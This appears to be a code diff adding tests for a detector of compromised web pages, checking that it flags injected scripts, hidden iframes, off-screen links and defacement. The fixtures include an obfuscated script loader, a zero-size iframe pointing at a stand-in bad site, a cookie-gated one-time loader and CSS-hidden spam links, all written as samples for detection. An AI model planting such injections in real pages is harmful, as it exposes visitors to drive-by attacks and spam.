@@ -409,3 +409,49 @@ def test_new_outside_domain(accused, document):
     assert accused(html, previous_domains=frozenset({"old.com"}))["new_outside_domain"] == "review new-domain"
     assert "new_outside_domain" not in accused(html, previous_domains=frozenset({"old.com", "abc-lamp.com"}))
     assert "new_outside_domain" not in accused(html)
+
+
+def test_hiding_style_in_shifted_digits(accused, document):
+    def coded(text: str, shift: int) -> str:
+        return "".join(f"{ord(char) - shift:02d}" for char in text)
+
+    array = f"'{coded('position:absolute;top:-9999px', 31)}','{coded('style', 28)}'"
+    code = f"var x=new Array({array});for(;;){{z+=String.fromCharCode(parseInt(t)+25-l+a)}}document.write('<'+x[1]+'>')"
+    assert accused(document(f"<script>{code}</script><p class=dnn></p>"))["injected_script"] == "fail coded-document"
+
+
+def test_frame_written_by_a_script(accused, document):
+    write = "document.write('<iframe src=http://bad-site.com/ width=0 height=0></iframe>')"
+    assert accused(document(f"<script>{write}</script>"))["hidden_frame"] == "review written-frame"
+    once = f"<script>if(document.cookie.indexOf('v=1')<0){{document.cookie='v=1';{write}}}</script>"
+    assert accused(document(once))["injected_script"] == "fail conditional-loader"
+
+
+def test_payload_hidden_by_a_rule_of_the_page(accused, document):
+    words = "ejx 7a kq3 zzt rw9f pqh 4k vbn mxl 2d " * 20
+    assert (
+        accused(document(f"<style>.q1{{position:absolute;top:-1184px}}</style><div class=q1>{words}</div>"))[
+            "injected_script"
+        ]
+        == "fail payload-text"
+    )
+
+
+def test_open_links_outside_the_document(accused, document):
+    assert accused(LINKS + document(""))["hidden_link"] == "fail links-apart"
+    assert accused(document("", after=ONE))["hidden_link"] == "review links-apart"
+    assert accused(CASINO + document(""))["hidden_link"] == "fail links-apart"
+
+
+def test_link_hidden_by_its_surroundings(accused, document):
+    style = "<style>.foot .box > p {position:absolute;left:-9999px}</style>"
+    assert (
+        accused(document(f"{style}<div class=foot><div class=box><p>{CASINO}</p></div></div>"))["hidden_link"]
+        == "fail spam-words"
+    )
+    assert "hidden_link" not in accused(document(f"{style}<div class=foot><p>{CASINO}</p></div>"))
+
+
+def test_article_about_hacking_is_not_defaced(accused, document):
+    html = document("<h1>Hacked by Design</h1>" + "<p>网络安全宣传。</p>" * 300, head="<title>Hacked by Design</title>")
+    assert accused(html)["defacement"] == "review banner-doubtful"
